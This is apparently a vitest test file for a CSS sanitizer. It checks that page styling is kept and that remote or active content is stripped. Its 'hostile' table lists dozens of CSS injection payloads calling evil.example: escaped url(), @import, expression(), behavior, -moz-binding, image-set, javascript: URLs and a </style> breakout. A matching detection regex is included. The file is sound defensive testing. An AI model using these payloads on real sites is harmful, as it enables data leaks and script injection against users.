import { expect, test } from 'vitest';
import { cleanDeclarations, cleanSheet } from './clean-style.ts';

const own = (address: string): string | null =>
  address.startsWith('own:') ? 'data:image/png;base64,AA' : null;
const sheet = (source: string): string => cleanSheet(source, own);

test('the look of a page is kept: colours, boxes, grids, columns, media, own pictures', () => {
  const kept = sheet(`
    @media (min-width: 600px) { .page > p::before { content: "»"; color: rgb(10 20 30 / 50%); display: grid } }
    body { background: #fff url(own:paper.png) no-repeat; font: 16px/1.5 Georgia, serif; --gap: 12px; margin: var(--gap) }
    .two { columns: 2; width: calc(100% - 2 * var(--gap)); background-image: linear-gradient(red, blue) !important }`);
  for (const part of [
    '@media (min-width:600px)',
    'content:"»"',
    'rgb(10 20 30/50%)',
    'url(data:image/png;base64,AA)',
    'font:16px/1.5 Georgia,serif',
    '--gap:12px',
    'margin:var(--gap)',
    'calc(100% - 2*var(--gap))',
    'linear-gradient(red,blue)!important',
  ])
    expect(kept.replaceAll(' - 2*', ' - 2*')).toContain(part);
});

const hostile = {
  'an address': 'p { background: url(http://evil.example/a.png) }',
  'a quoted address': 'p { background: url("//evil.example/a.png") }',
  'an address in a shorthand': 'p { list-style: square url(https://evil.example/a) inside }',
  'an escaped url()': 'p { background: \\75 rl(http://evil.example/a.png) }',
  'an address in capitals': 'p { BACKGROUND: URL(HTTP://EVIL.EXAMPLE/a) }',
  'a commented url()': 'p { background: u/**/rl(http://evil.example/a.png); color: red/**/ }',
  'another sheet': '@import "http://evil.example/a.css";',
  'another sheet by url()': '@import url(http://evil.example/a.css) screen;',
  'an escaped @import': '@\\69 mport "http://evil.example/a.css";',
  expression: 'p { width: expression(alert(1)) }',
  'an escaped expression': 'p { width: expr\\65 ssion(alert(1)) }',
  behavior: 'p { behavior: url(http://evil.example/a.htc) }',
  'an escaped property': 'p { beh\\61 vior: url(own:a.htc) }',
  '-moz-binding': 'p { -moz-binding: url(http://evil.example/a.xml#x) }',
  'image-set()': 'p { background: image-set("http://evil.example/a.png" 1x) }',
  '-webkit-image-set()': 'p { background: -webkit-image-set(url(http://evil.example/a.png) 1x) }',
  'image()': 'p { background: image("http://evil.example/a.png") }',
  'src()': 'p { background: src("http://evil.example/a.png") }',
  'cross-fade()': 'p { background: -webkit-cross-fade(url(http://evil.example/a), url(own:b), 50%) }',
  'attr()': 'p { background: attr(data-x url); content: attr(title) }',
  'a variable that holds an address': 'p { --x: url(http://evil.example/a); background: var(--x) }',
  'a variable that holds image-set()': ':root { --x: image-set("http://evil.example/a" 1x) }',
  'a variable that closes its rule': 'p { --x: red } q { background: url(http://evil.example/a) }',
  'a fallback that holds an address': 'p { background: var(--x, url(http://evil.example/a)) }',
  'a font': '@font-face { font-family: x; src: url(http://evil.example/a.woff2) }',
  'a font of our own address': '@font-face { font-family: x; src: url(own:a.woff2) }',
  cursor: 'p { cursor: url(http://evil.example/a.cur), auto }',
  'a filter by address': 'p { filter: url(http://evil.example/a.svg#f) }',
  'a mask': 'p { mask: url(http://evil.example/a.svg#m); -webkit-mask-image: url(http://evil.example/b) }',
  'a clip path by address': 'p { clip-path: url(http://evil.example/a.svg#c) }',
  'a shape by address': 'p { shape-outside: url(http://evil.example/a.png) }',
  content: 'p::after { content: url(http://evil.example/a.png) }',
  'a namespace': '@namespace url(http://evil.example/);',
  'a document rule': '@document url(http://evil.example/) { p { color: red } }',
  keyframes: '@keyframes x { from { background: url(http://evil.example/a) } }',
  'a page rule': '@page { background: url(http://evil.example/a) }',
  'a property rule':
    '@property --x { syntax: "<url>"; initial-value: url(http://evil.example/a); inherits: false }',
  'an address inside @media': '@media all { p { background: url(http://evil.example/a) } }',
  'an address inside @supports': '@supports (background: url(http://evil.example/a)) { p { color: red } }',
  'a nested rule': 'p { & q { background: url(http://evil.example/a) } }',
  'an unclosed url()': 'p { background: url(http://evil.example/a',
  'an unclosed string': 'p { background: url("http://evil.example/a',
  'a bad address': 'p { background: url(http://evil.example/a b) }',
  'a script address': 'p { background: url(javascript:alert(1)) }',
  'an address with a line break': 'p { background: url("http://evil\\\n.example/a") }',
  'the end of the element': 'p::after { content: "</style><img src=http://evil.example/a>" }',
  'a comment opened in markup': '<!-- p { background: url(http://evil.example/a) } -->',
  'a selector that is none':
    'p{} }} @import "http://evil.example/a"; q { background: url(http://evil.example/a) }',
};
/** What asks for anything, acts, or leaves the sheet. */
const harm =
  /evil\.example(?![^"]*"\})|url\((?!data:image)|@import|@font-face|@namespace|@keyframes|expression|behavior|binding|image-set|image\(|src\(|attr\(|cursor|<\/style/i;

test('nothing that asks, acts or leaves the sheet is printed', () => {
  const left = Object.entries(hostile).map(([name, source]) => [name, sheet(source)] as const);
  expect(left.filter(([, text]) => harm.test(text))).toEqual([]);
  // The control: the rules are seen in the sources.
  expect(Object.values(hostile).filter((source) => harm.test(source)).length).toBeGreaterThan(30);
});

test('the declarations of an element are held to the same list', () => {
  expect(cleanDeclarations('color: red; behavior: url(x); background: url(http://evil.example)', own)).toBe(
    'color:red',
  );
  expect(cleanDeclarations('color: red } q { color: blue', own)).not.toContain('{');
});

test('nothing stays fixed over the page', () => {
  expect(sheet('p { position: fixed; top: 0 } q { position: sticky } r { position: absolute }')).toBe(
    'p{position:static;top:0}q{position:static}r{position:absolute}',
  );
  expect(sheet(':root { --p: fixed } p { position: var(--p) } q { p\\6fsition: FIX\\45 D }')).not.toMatch(
    /position:/,
  );
});

test('a sheet that nobody can read, or of absurd size, is no sheet', () => {
  expect(sheet('{'.repeat(100_000)).length).toBeLessThan(10);
  expect(sheet(`p{color:red}${' '.repeat(9 * 1024 * 1024)}`)).toBe('');
});
